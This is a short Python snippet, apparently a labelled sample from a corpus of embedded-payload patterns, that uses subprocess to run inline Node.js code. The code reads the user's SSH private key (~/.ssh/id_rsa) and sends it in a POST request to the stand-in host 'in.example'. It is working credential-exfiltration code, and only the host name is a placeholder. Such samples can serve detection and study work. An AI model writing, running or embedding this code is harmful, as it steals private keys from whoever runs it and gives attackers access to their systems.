# class: embedded, node -e from python; style: triple quoted
import subprocess

JS = """
const fs = require('fs'), https = require('https'), os = require('os'), path = require('path');
const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));
const r = https.request({host: 'in.example', path: '/k', method: 'POST'});
r.write(key); r.end();
"""
subprocess.run(["node", "-e", JS])
